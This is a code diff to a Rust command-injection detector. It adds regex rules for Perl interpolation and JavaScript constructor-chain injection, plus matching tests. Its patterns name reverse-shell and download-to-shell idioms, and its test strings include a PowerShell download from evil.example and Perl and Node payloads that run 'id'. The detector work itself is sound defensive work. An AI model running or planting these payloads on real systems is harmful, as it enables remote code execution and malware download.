@@ -508,7 +508,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\()", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\(|\$[0-9a-z@]*:(?:[a-z_$][\w$]*:)*constructor\b)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (RUBY_CODE, Medium, 0.6, "Ruby code"),
             (windows_admin.as_str(), High, 0.85, "Windows administration tool after a shell separator"),
@@ -542,7 +542,8 @@ impl Cmdi {
             // `!!`, `!-2`: bash re-runs an earlier command line of the session.
             (r"(?:^|[;|&])\s*!(?:!|-\d+)\s*(?:$|[;|&])", High, 0.7, "shell history expansion"),
             (alias.as_str(), High, 0.8, "shell alias for a command"),
-            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[", High, 0.8, "Perl interpolation"),
+            // `@{[ system 'id' ]}` runs a list, `${\ `id`}` a scalar reference, inside a Perl string.
+            (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[|\$\{\s*\\\s*(?:\(|`|[a-z_:]+\s*[(`'\x22])", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store|create|delete|rename|subscribe|unsubscribe|list|copy|move|search)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
             (delay.as_str(), High, 0.8, "delay command after a shell separator"),
@@ -753,6 +754,8 @@ impl Check for Cmdi {
             lit("~+"),
             lit("~-"),
             lit("@{"),
+            lit("@ {"),
+            lit("${\\"),
             lit("mail from"),
             lit("rcpt to"),
             gated(".shell", sqlite_dot_command),
@@ -982,6 +985,10 @@ mod tests {
             "x\r\nB7 DELETE INBOX",
             "x\r\nc1 RENAME INBOX old",
             "powershell Invoke-WebRequest https://evil.example/x -OutFile x.exe",
+            "@ { [ system 'id' ] }",
+            "${\\ `id`}",
+            "${\\ system('id')}",
+            "{\"get\":\"$1:constructor:constructor\"}",
         ] {
             assert!(flags("attack.cmdi", v), "{v}");
         }
@@ -996,6 +1003,9 @@ mod tests {
             "Notes\nA1 list of tasks\nB2 copy of the form",
             "Cost: $IFSC code is HDFC0001",
             "We use PowerShell to get-things done",
+            "email me @ {address}",
+            "${\\LaTeX} and $\\alpha$",
+            "$1: constructor pattern",
         ] {
             assert!(!flags("attack.cmdi", v), "{v}");
         }
